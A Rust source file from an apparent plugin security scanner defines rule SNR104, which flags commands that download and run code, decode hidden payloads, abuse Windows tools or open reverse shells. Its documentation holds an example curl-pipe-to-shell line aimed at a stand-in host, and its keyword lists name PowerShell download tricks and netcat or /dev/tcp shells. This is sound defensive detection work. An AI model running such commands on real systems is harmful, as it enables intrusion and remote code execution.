//! Commands that download something and run it, or hide what they run.

use crate::core::finding::{Confidence, Kind, Rule, Severity};
use crate::firewall::check::{Check, Objections};
use crate::firewall::fact::{Fact, FactKind, Place};
use crate::firewall::tables::Sink;
use crate::firewall::value::{Abstract, Value};

pub(crate) static CHECK: Check = Check { rule: &RULE, sees: &[FactKind::Call], look };

pub(crate) static RULE: Rule = Rule {
    id: "SNR104",
    name: "loader-command",
    kind: Kind::Violation,
    cwe: 494,
    severity: Severity::Critical,
    confidence: Confidence::High,
    help: "do not run this plugin; what it needs is installed by its owner, not by the plugin",
    docs: r#"## What it does

Looks for constant commands that fetch code and run it, or that carry it encoded: PowerShell with an encoded command or a download, `curl | sh`, `mshta`, `certutil -urlcache`, `bitsadmin`, reverse shells.

## Why it is bad

These are the second half of an attack: the plugin is only there to bring in the rest.

## Example

    os.system("curl -s https://x.example/i.sh | sh")

## Fix

Ask the owner to install what the plugin needs.

## References

[CWE-494](https://cwe.mitre.org/data/definitions/494.html), [CWE-506](https://cwe.mitre.org/data/definitions/506.html)
"#,
};

fn look(fact: &Fact<'_>, place: &Place<'_>, out: &mut Objections<'_>) {
    let Fact::Call(call) = fact else { return };
    if !matches!(call.member.and_then(|member| member.sink), Some(Sink::Process | Sink::Shell)) {
        return;
    }
    let command = call
        .arguments
        .positional
        .iter()
        .map(words)
        .collect::<Vec<_>>()
        .join(" ")
        .to_ascii_lowercase();
    if let Some(what) = loads(&command) {
        out.object_to(&RULE, place, call.span, call.function, format!("the command {what}"));
    }
}

fn words(value: &Abstract) -> String {
    match &value.value {
        Value::Str(text) | Value::Prefix(text) => text.to_string(),
        Value::Sequence(parts) => parts.iter().take(64).map(words).collect::<Vec<_>>().join(" "),
        _ => String::new(),
    }
}

/// Returns what a command in lower case does, if it is one of these.
pub(crate) fn loads(command: &str) -> Option<&'static str> {
    let alone = command.trim().rsplit('/').next().unwrap_or(command);
    let shells = [
        "bash",
        "cmd",
        "cmd.exe",
        "csh",
        "dash",
        "ksh",
        "powershell",
        "powershell.exe",
        "sh",
        "zsh",
    ];
    if shells.contains(&alone)
        || matches!(command.trim(), "bash -i" | "sh -i" | "/bin/sh sh" | "/bin/bash bash")
    {
        return Some("is a shell that somebody is to type into");
    }
    let has = |word: &str| command.contains(word);
    let shell = [
        "| sh", "|sh", "| bash", "|bash", "| python", "|python", "| zsh", "&& ./", "; ./",
        "&& chmod", "; chmod", "&& sh ", "; sh ", "&& bash ", "; bash ",
    ];
    if has("powershell") || has("pwsh") {
        let hidden = [
            " -enc",
            " -e ",
            " -ec ",
            "frombase64string",
            "downloadstring",
            "downloadfile",
            "iex",
            "invoke-expression",
            "invoke-webrequest",
            "iwr ",
            "-windowstyle hidden",
            "-w hidden",
            "webclient",
            "start-bitstransfer",
        ];
        if hidden.iter().any(|word| has(word)) {
            return Some("has PowerShell download or decode what it runs");
        }
    }
    if (has("curl ") || has("wget ")) && shell.iter().any(|word| has(word)) {
        return Some("downloads something and runs it");
    }
    if has("base64 -d") && shell.iter().any(|word| has(word)) {
        return Some("decodes something and runs it");
    }
    if has("mshta ")
        || has("mshta.exe")
        || (has("certutil") && has("urlcache"))
        || has("bitsadmin ")
        || (has("regsvr32") && has("http"))
        || (has("rundll32") && has("javascript"))
    {
        return Some("uses a tool of Windows to fetch code");
    }
    if has("/dev/tcp/") || has("nc -e") || has("ncat -e") || has("bash -i") {
        return Some("opens a shell for somebody elsewhere");
    }
    None
}
